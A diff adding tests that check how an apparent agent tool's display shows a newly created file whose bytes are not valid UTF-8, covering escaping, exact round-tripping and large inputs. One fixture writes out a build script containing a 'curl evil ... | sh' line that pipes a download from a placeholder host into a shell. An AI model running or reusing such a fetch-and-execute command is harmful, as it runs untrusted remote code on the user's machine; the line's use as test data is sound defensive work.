@@ -124,6 +124,54 @@ const spelled =
   (text: string): TextNow =>
   (path) => ({ path: parseRelPath(path), read: () => text })
 
+describe('SPEC 6.5 content of a new file that is no text', () => {
+  const created = (bytes: Buffer): readonly string[] | undefined =>
+    showCall(
+      'fs_create_file',
+      { path: 'build.sh', content: bytes.toString('base64'), encoding: 'base64' },
+      { isOurs: true, textNow: () => undefined },
+    ).changes[0]?.lines
+
+  test('is shown, with the bytes that are no text', () => {
+    expect(created(Buffer.from('#!/bin/sh\ncurl evil \\xff | sh\n# ü \xff\n', 'latin1'))).toEqual([
+      '(not UTF-8: a byte that is no text is written as \\xff, a backslash as \\\\)',
+      '+#!/bin/sh',
+      '+curl evil \\\\xff | sh',
+      '+# \\xfc \\xff',
+    ])
+  })
+
+  test('is shown so that it says every byte', () => {
+    fc.assert(
+      fc.property(fc.uint8Array({ maxLength: 40 }), fc.string({ unit: 'grapheme' }), (odd, text) => {
+        const bytes = Buffer.concat([Buffer.from(text), odd, Buffer.from(text), Buffer.from([0xff])])
+        const lines = created(bytes)!
+          .slice(1)
+          .map((one) => one.slice(1))
+        const back = lines
+          .join('\n')
+          .split(/(\\x[0-9a-f]{2}|\\\\)/)
+          .map((part) =>
+            part === '\\\\'
+              ? Buffer.from('\\')
+              : part.startsWith('\\x')
+                ? Buffer.from(part.slice(2), 'hex')
+                : Buffer.from(part),
+          )
+        expect(Buffer.concat(back).equals(bytes)).toBe(true)
+      }),
+      { numRuns: 2000 },
+    )
+  })
+
+  test('of a megabyte is no trouble', () => {
+    expect(created(Buffer.alloc(1_000_000, 0xc3))?.[1]?.length).toBe(4_000_001)
+    expect(created(Buffer.concat([Buffer.alloc(1_000_000, 'a'), Buffer.from([0xff])]))?.[1]?.length).toBe(
+      1_000_005,
+    )
+  })
+})
+
 describe('SPEC 6.5 what is shown is what is done (decision 0380)', () => {
   const changes = (args: object, text: string) =>
     showCall('fs_modify_file', args, { isOurs: true, textNow: spelled(text) }).changes
